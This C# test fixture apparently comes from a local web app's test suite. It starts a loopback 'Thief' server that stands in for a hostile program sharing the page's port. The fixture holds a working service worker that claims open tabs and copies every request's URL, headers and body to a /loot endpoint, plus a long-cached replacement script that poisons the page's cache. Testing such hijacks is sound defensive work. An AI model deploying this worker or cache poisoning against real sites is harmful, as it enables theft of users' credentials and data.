using System.Collections.Concurrent;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Http;

namespace AddUserToGroup.Local.Tests.Page;

/// <summary>Another program on the page's port. Its service worker passes every request on and copies what it reads.</summary>
internal sealed class Thief(WebApplication server, ConcurrentQueue<string> loot) : IAsyncDisposable
{
    /// <summary>Installs a service worker for the whole origin, which also takes over the tabs that are open.</summary>
    public const string Trap = "/trap";

    /// <summary>Puts another script into the browser's cache in the place of the page's.</summary>
    public const string Cache = "/cache";

    private const string Worker =
        """
        oninstall = () => skipWaiting();
        onactivate = (event) => event.waitUntil(clients.claim());
        onfetch = (event) => event.respondWith((async () => {
          const { url, headers } = event.request;
          const body = await event.request.clone().text();
          fetch("/loot", { method: "POST", body: JSON.stringify([url, [...headers], body]) }).catch(() => {});
          return fetch(event.request);
        })());
        """;

    public Uri Address { get; } = new(server.Urls.Single());

    /// <summary>All requests that the worker saw.</summary>
    public string Loot => string.Join('\n', loot);

    public static async Task<Thief> StartAsync(int port)
    {
        var loot = new ConcurrentQueue<string>();
        var server = LoopbackHost.CreateBuilder(port).Build();
        server.MapGet(Trap, () => Html(
            """
            <script type="module">
              navigator.serviceWorker.addEventListener("controllerchange", () => document.body.innerHTML = "<p id='watching'>Watching");
              navigator.serviceWorker.register("/worker.js");
            </script>
            """));
        server.MapGet("/worker.js", () => Results.Text(Worker, "text/javascript"));
        server.MapGet(Cache, () => Html("<script type='module' src='/page.js'></script>"));
        server.MapGet("/page.js", (HttpResponse response) =>
        {
            response.Headers.CacheControl = "max-age=31536000";
            return Results.Text("document.body.innerHTML = \"<p id='stolen'>Stolen\"", "text/javascript");
        });
        server.MapPost("/loot", async (HttpRequest request) =>
        {
            using var reader = new StreamReader(request.Body);
            loot.Enqueue(await reader.ReadToEndAsync());
        });
        await server.StartAsync();
        return new(server, loot);
    }

    public ValueTask DisposeAsync() => server.DisposeAsync();

    private static IResult Html(string script) => Results.Text($"<!doctype html><title>Thief</title><body>{script}</body>", "text/html");
}
